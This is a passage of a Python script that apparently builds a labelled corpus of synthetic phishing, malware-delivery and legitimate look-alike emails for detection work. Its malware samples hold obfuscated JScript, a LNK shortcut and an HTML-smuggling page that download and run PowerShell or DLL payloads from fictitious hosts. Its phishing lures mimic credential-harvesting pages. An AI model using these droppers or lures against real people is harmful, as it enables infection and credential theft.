Subject: {subj}
To: Sophie Ashworth <{rcpt}>"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "gmail"))))


def a44_w2_payroll_lookalike():
    rcpt = f"angela.reyes@{US}"
    m = Mail("phish-w2-ready-payroll-lookalike", "phishing",
             "'Your 2025 Form W-2 is ready' notice in tax season from the look-alike brackenridgefluid-payroll.com "
             "via Amazon SES (passes authentication), asking the employee to 'verify identity' with work credentials "
             "on the same look-alike domain before downloading.",
             "us", utc(2026, 1, 27, 14, 2, 16), rcpt)
    s = m.stem
    p = ses_block(m, "brackenridgefluid-payroll.com")
    link = f"https://w2.brackenridgefluid-payroll.com/employee/verify?ref=W2-2025-{num(s + 'ref', 10000, 99999)}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;background:#fff">
<table width="580" cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;font-size:18px;font-weight:bold;color:#1f3b57;border-bottom:2px solid #1f3b57">Brackenridge Fluid Systems &mdash; Payroll</td></tr>
<tr><td style="padding:18px 0 8px 0;line-height:21px">Hi Angela,<br><br>Your <b>2025 Form W-2</b> (Wage and Tax Statement) is now available. For your security, tax documents can only be downloaded after you verify your identity with your work account.<br><br>
Please download your W-2 before <b>February 6, 2026</b>. After this date a paper copy will be mailed to the address on file, which may delay your tax filing.</td></tr>
<tr><td style="padding:14px 0"><a href="{link}" style="background:#1f3b57;color:#ffffff;text-decoration:none;padding:10px 22px;display:inline-block">View and download my W-2</a></td></tr>
<tr><td style="padding:14px 0;font-size:12px;color:#666">Payroll Department &middot; Brackenridge Fluid Systems, Inc. &middot; Columbus, OH</td></tr></table></body></html>"""
    plain = ("Hi Angela,\n\nYour 2025 Form W-2 (Wage and Tax Statement) is now available. For your security, tax documents "
             "can only be downloaded after you verify your identity with your work account.\n\nPlease download your W-2 "
             "before February 6, 2026. After this date a paper copy will be mailed to the address on file, which may delay "
             f"your tax filing.\n\nView and download my W-2: {link}\n\nPayroll Department\n")
    hdr = f"""From: Payroll Department <payroll@brackenridgefluid-payroll.com>
To: {rcpt}
Subject: Your 2025 Form W-2 is ready
MIME-Version: 1.0
Message-ID: {p['msgid']}
Date: {fmt(p['sent'])}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def a45_remittance_firebase():
    rcpt = f"jennifer.ames@{US}"
    m = Mail("phish-remittance-advice-compromised-vendor-firebase", "phishing",
             "'Payment remittance advice' from the compromised Exchange Online mailbox of a real gasket supplier (passes "
             "DMARC, the customer relationship is genuine); 'View Remittance' opens a Firebase-hosted page (web.app) with "
             "a captcha in front of an AiTM Microsoft 365 sign-in.",
             "us", utc(2025, 10, 21, 13, 32, 8), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="greatlakesgasket.com", sender="dlindgren@greatlakesgasket.com")
    link = f"https://remittance-viewer-4e1b.web.app/?e={b64url_text(rcpt)}&r=0091742"
    inner = outlook_desktop_html(ms_paras(f"""Good morning,
 
Please see the remittance advice below for payment processed today.
 
<table border="0" cellpadding="6" cellspacing="0" style="border:1px solid #cccccc;font-size:10.5pt"><tr style="background:#f2f2f2"><td><b>Remittance ID</b></td><td>REF#0091742</td></tr><tr><td><b>Payment date</b></td><td>10/21/2025</td></tr><tr><td><b>Amount</b></td><td>$27,814.36</td></tr><tr><td><b>Method</b></td><td>ACH</td></tr></table>
 
<a href="{link}"><b>View Remittance</b></a>
 
Thank you,
Debbie Lindgren
Accounts Payable | Great Lakes Gasket Co.
(216) 555-0193"""))
    plain = ("Good morning,\n\nPlease see the remittance advice below for payment processed today.\n\nRemittance ID: "
             "REF#0091742\nPayment date: 10/21/2025\nAmount: $27,814.36\nMethod: ACH\n\n"
             f"View Remittance<{link}>\n\nThank you,\nDebbie Lindgren\nAccounts Payable | Great Lakes Gasket Co.\n(216) 555-0193\n")
    subj = "Payment Remittance Advice - REF#0091742"
    hdr = f"""From: Debbie Lindgren <dlindgren@greatlakesgasket.com>
To: Jennifer Ames <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, inner, bnd(s))))


# --------------------------------------------------------------------------------------------
# Malware deliveries
# --------------------------------------------------------------------------------------------

def m1_zip_js_remittance():
    rcpt = f"jennifer.ames@{US}"
    m = Mail("phish-malware-zip-js-remittance", "malware",
             "Remittance-advice lure from a compromised cPanel mailbox of a precision machining shop (passes SPF/DKIM) "
             "carrying a ZIP with a single obfuscated JScript file that would launch PowerShell to fetch a second stage.",
             "us", utc(2025, 3, 11, 14, 27, 39), rcpt)
    s = m.stem
    p = cpanel_block(m, "harlanprecisionmfg.com", "harlanpr", f"server{num(s + 'srv', 100, 399)}.hostingplatform-cp.com",
                     f"209.59.{num(s + 'i3', 130, 190)}.{num(s + 'i4', 2, 250)}", f"91.92.{num(s + 'c3', 240, 255)}.{num(s + 'c4', 1, 250)}",
                     authed="accounts@harlanprecisionmfg.com")
    js = ("// remittance viewer\n"
          "var _0x5a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];\n"
          "function Ql7(a){var r='';for(var i=0;i<a.length;i+=2){r+=String.fromCharCode(parseInt(a.substr(i,2),16));}return r;}\n"
          "var kz = new ActiveXObject(_0x5a[0]);\n"
          "var pl = Ql7('" + "powershell -w hidden -ep bypass -c \"iwr https://cdn-docs-remit.top/r/0311.ps1 -UseBasicParsing | iex\"".encode().hex() + "');\n"
          + "".join(f"var v{hx(s + str(i), 6)} = '{alnum(s + 'junk' + str(i), 60)}';\n" for i in range(40))
          + "kz[_0x5a[1]](pl, 0, false);\n")
    z = files.zip_archive([("Remittance_Advice_03112025.js", js.encode())])
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-size:10pt;font-family:Verdana,Geneva,sans-serif">
<p>Hello,</p><p>Please find attached the remittance advice for the payment released today against your open invoices.</p>
<p>Kindly confirm receipt.</p><p>Thanks &amp; regards,<br>Accounts Department<br>Harlan Precision Manufacturing</p></body></html>"""
    plain = ("Hello,\n\nPlease find attached the remittance advice for the payment released today against your open invoices.\n\n"
             "Kindly confirm receipt.\n\nThanks & regards,\nAccounts Department\nHarlan Precision Manufacturing\n")
    body = Multi("mixed", f"=_{hx(s + 'rcb', 32)}", [
        alt(plain, html, f"=_{hx(s + 'rca', 32)}"),
        attachment("application/zip", "Remittance_Advice_03112025.zip", z),
    ])
    hdr = f"""MIME-Version: 1.0
Date: {fmt(p['sent'], us_off(p['sent'])[0])}
From: Accounts Department <accounts@harlanprecisionmfg.com>
To: {rcpt}
Subject: Remittance advice 03/11/2025
User-Agent: Roundcube Webmail/1.6.9
Message-ID: <{hx(s + 'rc', 32)}@harlanprecisionmfg.com>
X-Sender: accounts@harlanprecisionmfg.com"""
    add(m, emit_parts(m, p, hdr, body))


def m2_zip_lnk_po():
    rcpt = f"james.whitlock@{UK}"
    m = Mail("phish-malware-zip-lnk-purchase-order", "malware",
             "Purchase-order lure to the UK warehouse from a Gmail address posing as a trading company, with a ZIP "
             "holding a Windows shortcut named like a PDF (PO-2025-3381.pdf.lnk) whose arguments start hidden PowerShell "
             "to download and run a payload.",
             "uk", utc(2025, 5, 27, 6, 44, 12), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    p["ctry"] = "TR"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -nop -c \"$d=$env:TEMP+'\\PO-2025-3381.pdf';iwr 'https://files-po-docs.sbs/po3381.pdf' "
                             "-OutFile $d;start $d;iex(iwr 'https://files-po-docs.sbs/s.ps1' -UseBasicParsing)\"")
    z = files.zip_archive([("PO-2025-3381.pdf.lnk", lnk)])
    html = gmail_html("<div>Dear Sir/Madam,</div><div><br></div><div>Please find attached our new purchase order PO-2025-3381 "
                      "for the hydraulic fittings as per your last quotation. Kindly confirm availability and the earliest "
                      "dispatch date to our forwarder.</div><div><br></div><div>Best Regards,</div><div>Mehmet Aydin</div>"
                      "<div>Purchasing Department</div><div>Vantor Trading Ltd.</div>")
    plain = ("Dear Sir/Madam,\n\nPlease find attached our new purchase order PO-2025-3381 for the hydraulic fittings as per "
             "your last quotation. Kindly confirm availability and the earliest dispatch date to our forwarder.\n\n"
             "Best Regards,\nMehmet Aydin\nPurchasing Department\nVantor Trading Ltd.\n")
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("application/x-zip-compressed", z, "base64", '; name="PO-2025-3381.zip"', 'attachment; filename="PO-2025-3381.zip"',
             [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>", f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Vantor Trading Purchasing <vantortrading.purchasing@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: New Purchase Order PO-2025-3381 - Brackenridge UK
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, body))


def m3_iso_shipping():
    rcpt = f"marcus.bell@{US}"
    m = Mail("phish-malware-iso-bill-of-lading", "malware",
             "Bill-of-lading / shipping-documents lure from a freight-forwarder look-alike on Google Workspace (passes "
             "authentication) with an ISO disc image containing an executable named as the shipping documents.",
             "us", utc(2025, 8, 12, 12, 5, 44), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="kestrelgloballogistics.com")
    iso = files.iso_image([("BL_KGL25081207_Shipping_Docs.exe", files.pe_stub())], "KGL_DOCS")
    html = gmail_html("<div>Hello,</div><div><br></div><div>Attached are the original BL, commercial invoice and packing list for "
                      "container MSKU 784120-3 arriving Columbus rail terminal on 08/15. Please check the consignee details "
                      "and confirm so we can release the cargo.</div><div><br></div><div>Thanks,</div><div>Operations Team</div>"
                      "<div>Kestrel Global Logistics</div>")
    plain = ("Hello,\n\nAttached are the original BL, commercial invoice and packing list for container MSKU 784120-3 arriving "
             "Columbus rail terminal on 08/15. Please check the consignee details and confirm so we can release the cargo.\n\n"
             "Thanks,\nOperations Team\nKestrel Global Logistics\n")
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("application/x-iso9660-image", iso, "base64", '; name="BL_KGL25081207_Shipping_Docs.iso"',
             'attachment; filename="BL_KGL25081207_Shipping_Docs.iso"',
             [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>", f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Kestrel Global Logistics <ops@kestrelgloballogistics.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Shipping documents - BL KGL25081207 / MSKU 784120-3
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, body))


def m4_html_smuggling():
    rcpt = f"linda.fairchild@{US}"
    m = Mail("phish-malware-html-smuggling-invoice", "malware",
             "Overdue-invoice mail from a Gmail address with an HTML attachment that rebuilds a ZIP from an embedded "
             "base64 blob in the browser and saves it automatically (HTML smuggling); the ZIP holds a JScript dropper.",
             "us", utc(2025, 9, 9, 15, 41, 20), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    js = ("var sh=new ActiveXObject('WScript.Shell');\n"
          "sh.Run('cmd /c curl -s -o %TEMP%\\\\inv.dll https://inv-cdn-secure.shop/d/40918.dat && rundll32 %TEMP%\\\\inv.dll,Start',0,false);\n")
    z = files.zip_archive([("INV-40918.js", js.encode())])
    blob = base64.b64encode(z).decode()
    parts = [blob[i:i + 120] for i in range(0, len(blob), 120)]
    page = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Invoice INV-40918</title></head>\n"
            "<body style=\"font-family:Arial;text-align:center;padding-top:80px;color:#444\">\n"
            "<h3>Your document is downloading&hellip;</h3><p>If the download does not start, <a id=\"l\" href=\"#\">click here</a>.</p>\n"
            "<script>\nvar d=[\n" + ",\n".join(f"'{x}'" for x in parts) + "\n].join('');\n"
            "function b(x){var s=atob(x),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++){u[i]=s.charCodeAt(i);}return u;}\n"
            "var f=new Blob([b(d)],{type:'application/octet-stream'});var a=document.getElementById('l');\n"
            "a.href=URL.createObjectURL(f);a.download='INV-40918.zip';setTimeout(function(){a.click();},600);\n"
            "</script></body></html>\n")
    html = gmail_html("<div>Hi,</div><div><br></div><div>Just a reminder that invoice INV-40918 is now 30 days past due. I've "
                      "attached a copy for your reference. Could you let me know when payment is scheduled?</div><div><br></div>"
                      "<div>Thanks,</div><div>Megan Cole</div><div>Billing</div>")
    plain = ("Hi,\n\nJust a reminder that invoice INV-40918 is now 30 days past due. I've attached a copy for your reference. "
             "Could you let me know when payment is scheduled?\n\nThanks,\nMegan Cole\nBilling\n")
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("text/html", page.encode(), "base64", '; charset="US-ASCII"; name="INV-40918.html"',
             'attachment; filename="INV-40918.html"',
             [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>", f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Megan Cole <megancole.billing@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Invoice INV-40918 overdue
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, body))


def m5_copyright_dropbox_zip():
    rcpt = f"dana.whitfield@{US}"
    m = Mail("phish-malware-copyright-notice-dropbox-zip", "malware",
             "Copyright-infringement notice about photos on the company website from a Gmail 'photographer' account, "
             "linking to a Dropbox archive of 'evidence' (dl=1) of the kind that carries a signed executable with a "
             "side-loaded DLL infostealer.",
             "us", utc(2025, 5, 1, 16, 27, 3), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    link = (f"https://www.dropbox.com/scl/fi/{lower_alnum(s + 'fi', 25)}/Copyright_Infringement_Evidence_Brackenridge.zip"
            f"?rlkey={lower_alnum(s + 'rl', 25)}&st={lower_alnum(s + 'st', 8)}&dl=1")
    plain = ("Hello,\n\nMy name is Kaitlyn Morrow, I am a commercial photographer. I have found that images I own are being "
             "used on your website brackenridgefluid.com (product pages and the careers page) without a license.\n\n"
             "I have prepared a document with the images, the pages where they appear and my original files as proof of "
             f"ownership:\n{link}\n\nPlease remove the images within 48 hours or contact me to discuss a retroactive license. "
             "Otherwise I will have to file a DMCA complaint with your hosting provider and take legal action.\n\n"
             "Kaitlyn Morrow\nMorrow Visuals\n")
    html = gmail_html("<div>Hello,</div><div><br></div><div>My name is Kaitlyn Morrow, I am a commercial photographer. I have "
                      "found that images I own are being used on your website brackenridgefluid.com (product pages and the "
                      "careers page) without a license.</div><div><br></div><div>I have prepared a document with the images, "
                      "the pages where they appear and my original files as proof of ownership:</div><div>"
                      f"<a href=\"{link}\">Copyright_Infringement_Evidence_Brackenridge.zip</a></div><div><br></div><div>Please "
                      "remove the images within 48 hours or contact me to discuss a retroactive license. Otherwise I will have "
                      "to file a DMCA complaint with your hosting provider and take legal action.</div><div><br></div>"
                      "<div>Kaitlyn Morrow</div><div>Morrow Visuals</div>")
    hdr = f"""MIME-Version: 1.0
From: Kaitlyn Morrow <kaitlyn.morrowvisuals@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Copyright infringement notice - images on brackenridgefluid.com
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "gmail"))))


def m6_zoom_recording_msi():
    rcpt = f"priya.raman@{US}"
    m = Mail("phish-malware-zoom-recording-fake-update", "malware",
             "Zoom 'cloud recording available' look-alike from zoom-cloudrecord.com via Mailgun (passes authentication) "
             "whose fallback link downloads a 'Zoom Workplace update' MSI from the attacker's domain: a remote-access "
             "tool installer dressed as a client update.",
             "us", utc(2026, 2, 10, 22, 9, 37), rcpt)
    s = m.stem
    p = mailgun_block(m, "zoom-cloudrecord.com", sub="mail")
    play = f"https://zoom-cloudrecord.com/rec/play/{alnum(s + 'rec', 40)}?startTime={ts(m.when) * 1000 - 86400000}"
    dl = "https://zoom-cloudrecord.com/download/ZoomWorkplace_Update_6.3.11_x64.msi"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f7f9fa">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 10px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:Lato,Helvetica,Arial,sans-serif;color:#232333">
<tr><td style="padding:24px 32px 6px 32px"><img src="https://st1.zoom.us/static/6.3.25787/image/new/ZoomLogo.png" height="26" alt="zoom"></td></tr>
<tr><td style="padding:16px 32px 8px 32px;font-size:15px;line-height:22px">Hi Priya,<br><br>Cloud recording of <b>Board Prep - Q4 Results</b> is now available.</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:21px;color:#39394d">Date: Feb 10, 2026 02:00 PM Eastern Time (US and Canada)<br>Duration: 58 minutes<br>Host: Daniel Whitcombe</td></tr>
<tr><td style="padding:20px 32px"><a href="{play}" style="background:#0b5cff;color:#ffffff;font-size:15px;font-weight:bold;text-decoration:none;padding:11px 28px;border-radius:8px;display:inline-block">Play recording</a></td></tr>
<tr><td style="padding:0 32px 14px 32px;font-size:13px;color:#39394d">If playback does not start, your Zoom Workplace client needs the latest update: <a href="{dl}" style="color:#0b5cff">install Zoom Workplace 6.3.11</a>.</td></tr>
<tr><td style="padding:8px 32px 24px 32px;font-size:12px;color:#747487">&copy;2026 Zoom Communications, Inc. All rights reserved.</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Hi Priya,\n\nCloud recording of Board Prep - Q4 Results is now available.\n\nDate: Feb 10, 2026 02:00 PM Eastern "
             f"Time (US and Canada)\nDuration: 58 minutes\nHost: Daniel Whitcombe\n\nPlay recording: {play}\n\nIf playback does "
             f"not start, your Zoom Workplace client needs the latest update: {dl}\n")
    hdr = f"""Mime-Version: 1.0
Subject: Cloud Recording - Board Prep - Q4 Results is now available
From: Zoom <no-reply@zoom-cloudrecord.com>
To: {rcpt}
Date: {fmt(p['sent'])}
Message-Id: {p['msgid']}
Sender: no-reply@zoom-cloudrecord.com"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "sg"))))


# --------------------------------------------------------------------------------------------
# Legitimate look-alikes
# --------------------------------------------------------------------------------------------

def generic_block(m: Mail, *, ip: str, helo: str, mailfrom: str, dkim_d: str, selector: str, hops: list[str] | None = None,
                  sent: datetime | None = None, dmarc: str = "pass", tls: str = "TLS1_2", return_path: str = "",
                  h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", size: int = 256,
                  post: str = "") -> dict:
    sent = sent or m.sent(2)
    pre = [dkim(dkim_d, selector, h, m.stem + "gen", t=ts(sent), style="space", size=size)] + list(hops or [])
    return dict(ip=ip, helo=helo, mailfrom=mailfrom, spf="pass", dkim_res="pass", dkim_d=dkim_d, dmarc=dmarc, tls=tls,
                pre="\n".join(pre), post=post, sent=sent, return_path=return_path)


def l01_docusign_vendor_msa():
    rcpt = f"megan.trask@{US}"
    m = Mail("legit-docusign-supplier-msa-renewal", "clean",
             "Genuine DocuSign envelope (dse_NA3@docusign.net) from a known valve supplier's contracts manager asking "
             "procurement to sign the expected master-services-agreement renewal; real DocuSign links and footer.",
             "us", utc(2025, 3, 19, 15, 12, 26), rcpt)
    s = m.stem
    p = docusign_genuine_block(m, "NA3")
    link = docusign_link("NA3", s)
    code = HX(s + "code", 32)
    report = f"https://protect.docusign.net/report-abuse?e=AUtomjpPT0{alnum(s + 'rep', 80)}&lang=en"
    msg = ("Hi Megan,<br><br>As discussed on Monday's call, here is the MSA renewal for 2025-2027 with the revised freight "
           "terms (section 7.2) and the updated price-adjustment index. Once you sign it will route to Priya for "
           "countersignature.<br><br>Thanks,<br>Craig")
    html = docusign_html(sender="Craig Helmsley", sender_email="chelmsley@summitvalvefit.com",
                         title="Summit Valve - Brackenridge MSA Renewal 2025-2027.pdf", message=msg, link=link, code=code,
                         report=report,
                         pixel=f'<img src="https://na3.docusign.net/Member/Images/email/pixel.gif?e={alnum(s + "px", 40)}" width="1" height="1" alt="">')
    plain = (f"Craig Helmsley sent you a document to review and sign.\n\nREVIEW DOCUMENT <{link}>\n\nCraig Helmsley\n"
             "chelmsley@summitvalvefit.com\n\n" + msg.replace("<br>", "\n") + "\n\nDo Not Share This Email\nThis email contains "
             f"a secure link to Docusign. Please do not share this email, link, or access code with others.\n\nAlternate "
             f"Signing Method\nVisit Docusign.com, click 'Access Documents', and enter the security code:\n{code}\n")
    hdr = f"""Reply-To: Craig Helmsley <chelmsley@summitvalvefit.com>
From: Craig Helmsley via Docusign <dse_NA3@docusign.net>
To: Megan Trask <{rcpt}>
Message-ID: {p['msgid']}
Date: {fmt(p['sent'], pt_off(p['sent'])[0])}
Subject: Complete with Docusign: Summit Valve - Brackenridge MSA Renewal 2025-2027.pdf
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "java"))))


def l02_adobesign_nda_signed():
    rcpt = f"oliver.kettering@{UK}"
    m = Mail("legit-adobesign-nda-signed-filed", "clean",
             "Genuine Adobe Acrobat Sign 'Signed and Filed' confirmation for a mutual NDA the UK sales lead sent to a "
             "partner, with the signed PDF attached, from adobesign@adobesign.com on Adobe's own infrastructure.",
             "uk", utc(2025, 5, 14, 12, 40, 51), rcpt)
    s = m.stem
    p = generic_block(m, ip=f"130.248.{num(s + 'ip', 230, 240)}.{num(s + 'ip2', 2, 250)}",
                      helo=f"mail{num(s + 'h', 10, 40)}.na1.adobesign.com", mailfrom="adobesign.com", dkim_d="adobesign.com",
                      selector="adbsgn", return_path=f"<bounce+{hx(s + 'rp', 20)}@adobesign.com>",
                      hops=[f"Received: from echosign-mta-{num(s + 'mta', 1, 8)}.na1.adobesign.com (localhost [127.0.0.1]) by "
                            f"echosign-mta-{num(s + 'mta', 1, 8)}.na1.adobesign.com (Postfix) with ESMTP id {HX(s + 'q', 10)};\n {fmt(m.sent(2))}"])
    pdf = files.pdf(["MUTUAL NON-DISCLOSURE AGREEMENT", "", "Between Brackenridge Fluid Systems UK Ltd (Leeds) and",
                     "Pennine Hydraulics Ltd (Halifax)", "", "Effective date: 14 May 2025", "",
                     "1. Purpose: evaluation of a joint bid for water-utility pumping stations.",
                     "2. Term: two (2) years from the effective date.", "3. Governing law: England and Wales.", "",
                     "Signed: Oliver Kettering, Sales Director UK       14/05/2025",
                     "Signed: Ruth Ackroyd, Commercial Manager            14/05/2025", "",
                     f"Adobe Acrobat Sign transaction ID: CBJCHBCAABAA{alnum(s + 'tid', 32)}"],
                    title="Mutual NDA - Brackenridge UK and Pennine Hydraulics")
    link = f"https://secure.eu1.adobesign.com/public/agreements/view/CBJCHBCAABAA{alnum(s + 'tid', 32)}?tsid={alnum(s + 'ts', 20)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;padding:0;background:#f5f5f5">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:adobe-clean,'Source Sans Pro',Arial,sans-serif;color:#2c2c2c">
<tr><td style="padding:22px 30px;border-bottom:1px solid #e1e1e1"><img src="https://secure.eu1.adobesign.com/images/email/adobe-acrobat-sign-logo.png" alt="Adobe Acrobat Sign" height="28"></td></tr>
<tr><td style="padding:26px 30px 6px 30px;font-size:22px">Mutual NDA - Brackenridge UK and Pennine Hydraulics<br><span style="font-size:16px;color:#4b4b4b">is signed and filed!</span></td></tr>
<tr><td style="padding:12px 30px;font-size:14px;line-height:21px;color:#4b4b4b">Attached is a PDF of the final agreement. You can also open it online to review its activity history.</td></tr>
<tr><td style="padding:14px 30px 6px 30px;font-size:14px;line-height:21px">Signed by:<br>Oliver Kettering (oliver.kettering@brackenridgefluid.co.uk)<br>Ruth Ackroyd (ruth.ackroyd@penninehydraulics.co.uk)</td></tr>
<tr><td style="padding:18px 30px 26px 30px"><a href="{link}" style="background:#1473e6;color:#ffffff;font-size:15px;font-weight:bold;padding:10px 24px;border-radius:18px;text-decoration:none;display:inline-block">Open agreement</a></td></tr>
<tr><td style="padding:14px 30px;font-size:11px;color:#888888;border-top:1px solid #e1e1e1">To ensure that you continue receiving our emails, please add adobesign@adobesign.com to your address book or safe list.<br>
&copy; 2025 Adobe. All rights reserved. Adobe, 345 Park Avenue, San Jose, CA 95110-2704</td></tr>
</table></td></tr></table></body></html>"""
    plain = ("Mutual NDA - Brackenridge UK and Pennine Hydraulics is signed and filed!\n\nAttached is a PDF of the final "
             "agreement. You can also open it online to review its activity history.\n\nSigned by:\nOliver Kettering\n"
             f"Ruth Ackroyd\n\nOpen agreement: {link}\n\n(c) 2025 Adobe. All rights reserved.\n")
    body = Multi("mixed", bnd(s, "java"), [alt(plain, html, bnd(s + "a", "java")),
                                           attachment("application/pdf", "Mutual NDA - Brackenridge UK and Pennine Hydraulics - signed.pdf", pdf)])
    hdr = f"""Date: {fmt(p['sent'])}
From: Adobe Acrobat Sign <adobesign@adobesign.com>
Reply-To: Ruth Ackroyd <ruth.ackroyd@penninehydraulics.co.uk>
To: Oliver Kettering <{rcpt}>
Message-ID: <{num(s + 'mid', 100000000, 999999999)}.{num(s + 'mid2', 1000000, 9999999)}.{ts(p['sent'])}{num(s + 'ms', 100, 999)}@echosign-mta-{num(s + 'mta', 1, 8)}.na1.adobesign.com>
Subject: Signed and Filed: Mutual NDA - Brackenridge UK and Pennine Hydraulics
MIME-Version: 1.0
X-Adobe-Sign-Agreement: CBJCHBCAABAA{alnum(s + 'tid', 32)}"""
    p["ctry"] = "US"
    add(m, emit_parts(m, p, hdr, body))


def l03_sharepoint_internal_share():
    rcpt = f"alan.petrosyan@{US}"
    m = Mail("legit-sharepoint-internal-folder-share", "clean",
             "Genuine SharePoint Online notification that a procurement colleague shared the 'Supplier Qualification "
             "2025' folder on the company's own brackenridgefluid.sharepoint.com site.",
             "us", utc(2025, 6, 11, 17, 30, 12), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="sharepointonline.com", sender="no-reply@sharepointonline.com")
    p["post"] = ""
    link = f"https://brackenridgefluid.sharepoint.com/:f:/s/Procurement/E{alnum(s + 'sp', 45)}?e={alnum(s + 'e', 6)}"
    html = sharepoint_share_html("Megan Trask", "MT", "Supplier Qualification 2025",
                                 "Alan, the PPAP packages for the three new valve suppliers are in here. Can you review the "
                                 "dimensional reports before Friday?", link, "folder", "Brackenridge Fluid Systems")
    plain = ("Megan Trask shared a folder with you\n\n\"Alan, the PPAP packages for the three new valve suppliers are in here. "
             "Can you review the dimensional reports before Friday?\"\n\nSupplier Qualification 2025\n\n"
             f"Open <{link}>\n\nPrivacy Statement <https://go.microsoft.com/fwlink/?LinkId=521839>\n")
    hdr = f"""From: Megan Trask <no-reply@sharepointonline.com>
To: <{rcpt}>
Reply-To: <megan.trask@{US}>
Subject: Megan Trask shared the folder "Supplier Qualification 2025" with you
Date: {fmt(p['sent'])}
Message-ID: <{guid(s + 'odsp')}@odspnotify>
X-Sharing-Title: Supplier Qualification 2025
X-Sharing-Type: Folder
X-Sharing-Tenant: brackenridgefluid.sharepoint.com"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s))))


def l04_onedrive_partner_share():
    rcpt = f"sophie.ashworth@{UK}"
    m = Mail("legit-onedrive-partner-rebate-statement", "clean",
             "Genuine OneDrive for Business sharing notification from a long-standing UK partner's tenant (Pennine "
             "Hydraulics) sharing the quarterly rebate statement spreadsheet the finance manager expects each quarter.",
             "uk", utc(2025, 10, 1, 9, 2, 36), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="sharepointonline.com", sender="no-reply@sharepointonline.com", region="uk")
    p["post"] = ""
    link = (f"https://penninehydraulics-my.sharepoint.com/:x:/g/personal/ruth_ackroyd_penninehydraulics_co_uk/"
            f"E{alnum(s + 'sp', 45)}?e={alnum(s + 'e', 6)}")
    html = sharepoint_share_html("Ruth Ackroyd", "RA", "Pennine - Brackenridge UK Q3 rebate statement.xlsx",
                                 "Hi Sophie, Q3 rebate statement as usual. Credit note to follow from our accounts team next week.",
                                 link, "xlsx", "Pennine Hydraulics Ltd").replace("SharePoint &nbsp;", "OneDrive &nbsp;")
    plain = ("Ruth Ackroyd shared a file with you\n\n\"Hi Sophie, Q3 rebate statement as usual. Credit note to follow from "
             "our accounts team next week.\"\n\nPennine - Brackenridge UK Q3 rebate statement.xlsx\n\n"
             f"Open <{link}>\n\nThis link only works for the direct recipients of this message.\n")
    hdr = f"""From: Ruth Ackroyd <no-reply@sharepointonline.com>
To: <{rcpt}>
Reply-To: <ruth.ackroyd@penninehydraulics.co.uk>
Subject: Ruth Ackroyd shared "Pennine - Brackenridge UK Q3 rebate statement" with you
Date: {fmt(p['sent'])}
Message-ID: <{guid(s + 'odsp')}@odspnotify>
X-Sharing-Title: {enc('Pennine - Brackenridge UK Q3 rebate statement')}
X-Sharing-Type: Document
X-Sharing-Tenant: penninehydraulics-my.sharepoint.com"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s))))


def l05_okta_new_signon():
    rcpt = f"nicole.brandt@{US}"
    m = Mail("legit-okta-new-signon-notification", "clean",
